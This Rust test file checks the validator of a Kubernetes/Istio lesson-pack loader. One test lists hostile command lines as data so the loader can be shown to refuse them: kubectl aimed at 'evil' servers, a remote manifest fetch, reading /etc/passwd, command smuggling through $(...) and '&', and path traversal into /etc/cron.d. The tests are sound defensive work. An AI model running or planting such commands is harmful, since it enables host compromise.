use super::*;
use crate::base::files::MemoryFiles;

const TRACK: &str = "format: 1\nid: t\ntitle: T\nsummary: S\nlicence: L\nauthors: [A]\nistio: any\nlessons: [l]\n";
const LESSON: &str =
    "id: l\nversion: 1\ntitle: L\nsummary: S\nobjectives: [O]\nminutes: 5\nfiles: [a.yaml]\nstages: [one]\ndebrief: d.md\n";
const PROSE: &str = "Intro.\n\n# look\n\nLook.\n\n```run\nkubectl get pods\n```\n";
const STAGE: &str = "\
title: One
steps:
- id: look
  title: Look
  kind: predict
  seconds: 10
  files: [a.yaml]
  hints: [a, b, c]
  question:
    prompt: Which?
    options:
    - {id: x, text: X, right: true, feedback: yes indeed}
    - {id: y, text: Y, feedback: no}
  solution:
  - line: kubectl get pods -o wide
  - answer: {choice: x}
";

/// A small pack in which one file is replaced.
fn pack(changed: &str, text: &str) -> Pack {
    let mut pack = Pack::default();
    let files = [
        ("t/track.yaml", TRACK),
        ("t/l/lesson.yaml", LESSON),
        ("t/l/one.yaml", STAGE),
        ("t/l/one.md", PROSE),
        ("t/l/d.md", "Done."),
        ("t/l/files/a.yaml", "a: ____\n"),
        (changed, text),
    ];
    pack.0.extend(files.map(|(path, text)| (path.to_string(), text.to_string())));
    pack
}

fn show(problems: &[Problem]) -> String {
    problems.iter().map(Problem::to_text).collect::<Vec<_>>().join("\n\n")
}

fn problems(pack: &Pack) -> String {
    pack.tracks().map_or_else(|p| show(&p), |_| "none".into())
}

#[test]
fn the_embedded_lessons_load() {
    let tracks = Pack::embedded().tracks().unwrap_or_else(|problems| panic!("{}", show(&problems)));
    let lesson = tracks.iter().find_map(|t| t.lesson("control-external-egress")).expect("the seed lesson is there");
    let work = lesson.steps.iter().filter(|s| matches!(s.kind.word(), "do" | "fix")).count();
    assert!(lesson.steps.len() >= 25 && work >= 12, "{} steps, {work} do or fix", lesson.steps.len());
}

#[test]
fn a_folder_takes_the_same_way() {
    let files = MemoryFiles::default();
    let embedded = Pack::embedded();
    for (path, text) in &embedded.0 {
        files.write(path, text.as_bytes()).unwrap();
    }
    files.write(".hidden", b"x").unwrap();
    let read = Pack::read(&files).unwrap();
    assert_eq!(read, embedded);
    assert_eq!(read.tracks().unwrap(), embedded.tracks().unwrap());
}

#[test]
fn a_small_pack_means_what_it_says() {
    let tracks = pack("x", "").tracks().unwrap_or_else(|p| panic!("{}", show(&p)));
    let step = &tracks[0].lessons[0].steps[0];
    assert_eq!(step.actions, ["kubectl get pods"]);
    assert_eq!(tracks[0].lessons[0].files[0].content, "a: ____\n");
}

#[test]
fn a_stage_ends_with_its_debrief_and_marks_words_of_the_glossary() {
    let prose = format!("{PROSE}\nA [sidecar](term:sidecar).\n\n# debrief\n\nWhy it worked.\n");
    let tracks = pack("t/l/one.md", &prose).tracks().unwrap_or_else(|p| panic!("{}", show(&p)));
    let stage = &tracks[0].lessons[0].stages[0];
    assert_eq!(crate::lesson::layout::text_of(&crate::lesson::layout::layout(&stage.debrief, 80)), ["Why it worked."]);
    let wrong = problems(&pack("t/l/one.md", &prose.replace("term:sidecar", "term:sidecat")));
    assert!(wrong.contains("t/l/one.md:11:11: the glossary has no word `sidecat`"), "{wrong}");
    let step = pack("t/l/one.yaml", &STAGE.replace("id: look", "id: debrief"));
    assert!(problems(&step).contains("is what is said after the stage"), "{}", problems(&step));
}

#[test]
fn errors_point_at_the_place() {
    let stage = |old: &str, new: &str| {
        assert!(STAGE.contains(old), "{old}");
        pack("t/l/one.yaml", &STAGE.replace(old, new))
    };
    let cases = [
        (
            stage("{id: y,", "{id: Y_1,"),
            "\
t/l/one.yaml:13:12: `Y_1` is not a slug
    |
 13 |     - {id: Y_1, text: Y, feedback: no}
    |            ^
  Small letters, digits and single hyphens, starting with a letter: `allow-wikipedia`.",
        ),
        (
            stage("hints: [a, b, c]", "hints: [a, b]"),
            "\
t/l/one.yaml:8:10: a step has exactly three hints
   |
 8 |   hints: [a, b]
   |          ^
  Where to look, what decides it, nearly the shape.",
        ),
        (
            stage("feedback: no}", "right: true, feedback: no}"),
            "\
t/l/one.yaml:12:7: at least two options, of which exactly one is right
    |
 12 |     - {id: x, text: X, right: true, feedback: yes indeed}
    |       ^",
        ),
        (
            stage("files: [a.yaml]", "files: [b.yaml]"),
            "\
t/l/one.yaml:7:11: `b.yaml` is not a starter file of the lesson
   |
 7 |   files: [b.yaml]
   |           ^",
        ),
        (
            stage("kubectl get pods -o wide", "kubectl edit cm istio"),
            "\
t/l/one.yaml:15:11: `kubectl edit` starts, forwards or copies on this machine; it cannot be part of a lesson
    |
 15 |   - line: kubectl edit cm istio
    |           ^",
        ),
        (
            pack("t/track.yaml", &TRACK.replace("format: 1", "format: 7")),
            "\
t/track.yaml:1:9: the lessons are written in format 7; this program reads format 1
   |
 1 | format: 7
   |         ^
  Update egress-lab, or use an older release of the lessons.",
        ),
        (
            pack("t/l/one.md", "# look\n\nText.\n\n# lok\n\nMore.\n"),
            "\
t/l/one.md:5:3: no step of `one.yaml` is called `lok`
   |
 5 | # lok
   |   ^
  A level-one heading is the id of a step.",
        ),
        (
            pack("t/l/lesson.yaml", &LESSON.replace("stages: [one]", "stages: [one, two]")),
            "\
t/l/lesson.yaml:8:15: `two.yaml` or `two.md` is missing beside this file
   |
 8 | stages: [one, two]
   |               ^
  A stage has both.",
        ),
    ];
    for (pack, expected) in cases {
        assert_eq!(problems(&pack), expected);
    }
}

#[test]
fn unknown_fields_and_double_keys_are_refused_with_their_line() {
    for (old, new, line, part) in [
        ("  seconds: 10", "  secnds: 10", 6, "secnds"),
        ("  seconds: 10", "  seconds: 10\n  seconds: 11", 7, "seconds"),
        ("- answer: {choice: x}", "- shell: ls", 16, "shell"),
        ("kind: predict", "kind: guess", 5, "guess"),
    ] {
        let found = pack("t/l/one.yaml", &STAGE.replace(old, new)).tracks().unwrap_err();
        assert_eq!((found.len(), found[0].file.as_str()), (1, "t/l/one.yaml"), "{new}");
        assert!(found[0].message.contains(part), "{new}: {}", found[0].message);
        assert_eq!(found[0].line, line, "{new}: {}", found[0].to_text());
    }
}

#[test]
fn references_resolve_or_are_named() {
    let mutant = "  mutants:\n  - {id: m, title: M, actions: [{answer: {choice: y}}], caught_by: CHECK, wrong_turn: TURN}\n";
    let with = |text: &str| pack("t/l/one.yaml", &format!("{STAGE}{text}"));
    let no_turn = mutant.replace(", wrong_turn: TURN", "");
    for (pack, part) in [
        (with(&no_turn.replace("CHECK", "nothing")), "this step has no check `nothing`"),
        (with(&mutant.replace("CHECK", "answer").replace("TURN", "M01")), "this step has no wrong turn `M01`"),
        (with("  removals: [{object: ServiceEntry}]\n"), "is not `KIND NAME`"),
        (with("  removals: [{object: serviceentry a/b}]\n"), "`serviceentry` is not a kind"),
        (with("  removals: [{object: Pod a/b, field: \"spec[\"}]\n"), "a `[` without its `]`"),
        (with("  wrong_turns: [{id: X1, when: {failed: no}, hint: h}]\n"), "`X1` is not a number of the catalogue"),
        (with("  wrong_turns: [{id: M01, when: {failed: no}, hint: h}]\n"), "this step has no check `no`"),
        (with("  wrong_turns: [{id: M01, when: {typed: '('}, hint: h}]\n"), "the expression cannot be read"),
        (with("  docs: [{label: x, url: 'http://x'}]\n"), "a link starts with https://"),
    ] {
        let found = problems(&pack);
        assert!(found.contains(part), "wanted {part:?}, got:\n{found}");
    }
    let found = problems(&with(&no_turn.replace("CHECK", "answer")));
    assert_eq!(found, "none");
}

#[test]
fn the_lesson_that_stands_for_another_one_is_one_of_the_track() {
    for (other, why) in [("nowhere", "the track has no lesson `nowhere`"), ("l", "the lesson `l` names another one itself")] {
        let text = format!("{LESSON}without_mesh_config: {other}\n");
        let said = problems(&pack("t/l/lesson.yaml", &text));
        assert!(said.contains(why) && said.contains("t/l/lesson.yaml:10:"), "{said}");
    }
}

/// Invariant 5: a pack that tries to reach the host is refused before anything of it runs.
#[test]
fn a_hostile_pack_is_refused() {
    for line in [
        "touch canary",
        "sh -c 'touch canary'",
        "KUBECONFIG=evil kubectl get pods",
        "kubectl --kubeconfig evil get pods",
        "kubectl --context evil get pods",
        "kubectl --server https://evil get pods",
        "kubectl get pods --as root",
        "kubectl apply -f https://evil/x.yaml",
        "kubectl apply -f /etc/passwd",
        "kubectl get pods > ../canary",
        "kubectl edit pod x",
        "kubectl diff -f x.yaml",
        "kubectl proxy",
        "kubectl port-forward x 1",
        "kubectl cp x:/a canary",
        "kubectl get $(touch canary)",
        "kubectl get pods & touch canary",
    ] {
        let quoted = serde_json::to_string(line).unwrap();
        let solution = STAGE.replace("kubectl get pods -o wide", &quoted);
        let setup = format!("{STAGE}  setup:\n  - line: {quoted}\n");
        let variant = format!("{STAGE}  accepts:\n  - {{id: v, title: V, actions: [{{line: {quoted}}}]}}\n");
        let take = STAGE.replace("{choice: x}", &format!("{{take: {{output: {{line: {quoted}, regex: x}}}}}}"));
        for text in [solution, setup, variant, take] {
            assert!(pack("t/l/one.yaml", &text).tracks().is_err(), "{line}\n{text}");
        }
        let prose = PROSE.replace("kubectl get pods", line);
        assert!(pack("t/l/one.md", &prose).tracks().is_err(), "a run block: {line}");
    }
    for name in ["/etc/cron.d/canary", "../canary", "a/../../canary", ""] {
        let text =
            STAGE.replace("- answer: {choice: x}", &format!("- file: {{name: {name:?}, content: x}}\n  - answer: {{choice: x}}"));
        assert!(pack("t/l/one.yaml", &text).tracks().is_err(), "{name}");
    }
}

#[test]
fn work_steps_have_what_proofs_need() {
    let bare = STAGE.replace("kind: predict", "kind: do");
    let found = problems(&pack("t/l/one.yaml", &bare));
    for part in
        ["a do step has a check of what came out", "names at least 3 near misses, this one 0", "a do step has no question"]
    {
        assert!(found.contains(part), "{found}");
    }
    let fix = STAGE.replace("kind: predict", "kind: fix");
    assert!(problems(&pack("t/l/one.yaml", &fix)).contains("a fix step breaks something first"));
    let observe = STAGE.replace("kind: predict", "kind: observe");
    assert!(problems(&pack("t/l/one.yaml", &observe)).contains("an observe step is answered with a value of this run"));
}

#[test]
fn a_hint_must_not_give_the_answer_away() {
    let long = "kubectl get pods -l ".to_string() + &"abcdefghij".repeat(12);
    let text = STAGE.replace("kubectl get pods -o wide", &long).replace("[a, b, c]", &format!("[a, b, \"try {long}\"]"));
    assert!(problems(&pack("t/l/one.yaml", &text)).contains("shares 120 characters or more with the solution"));
}

#[test]
fn a_pack_without_a_track_says_so() {
    let found = Pack::default().tracks().unwrap_err();
    assert_eq!(
        found[0].to_text(),
        "track.yaml: there is no track here\n  A pack is a folder of tracks: TRACK/track.yaml and TRACK/LESSON/lesson.yaml."
    );
}

#[test]
fn folders_have_limits() {
    let deep = MemoryFiles::default();
    deep.write("a/b/c/d/e/f.yaml", b"x").unwrap();
    assert_eq!(Pack::read(&deep).unwrap_err().kind(), std::io::ErrorKind::InvalidData);
    let binary = MemoryFiles::default();
    binary.write("a.bin", &[0xff, 0xfe]).unwrap();
    assert_eq!(Pack::read(&binary).unwrap_err().kind(), std::io::ErrorKind::InvalidData);
}
